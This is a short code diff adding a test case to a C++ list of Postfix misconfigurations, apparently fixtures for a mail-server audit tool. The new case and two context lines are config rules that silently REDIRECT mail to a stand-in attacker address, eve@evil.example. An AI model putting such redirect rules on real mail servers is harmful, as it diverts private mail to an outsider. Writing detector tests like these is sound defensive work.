@@ -128,6 +128,8 @@ const std::vector<Misconfiguration> kNet{
                   "pams_milter_header_checks")},
     {"a FILTER of the site in body_checks", "other_filters",
      add_to_main("body_checks = regexp:{{/viagra/ FILTER smtp:[spam.example]}}")},
+    {"a rule of body_checks redirects mail past the milter", "content_redirects",
+     add_to_main("body_checks = regexp:{{/viagra/ REDIRECT eve@evil.example}}")},
     {"an access table redirects mail", "redirects",
      add_to_main("smtpd_recipient_restrictions = check_client_access static:{REDIRECT eve@evil.example}")},
     {"a restriction class redirects mail", "redirects",
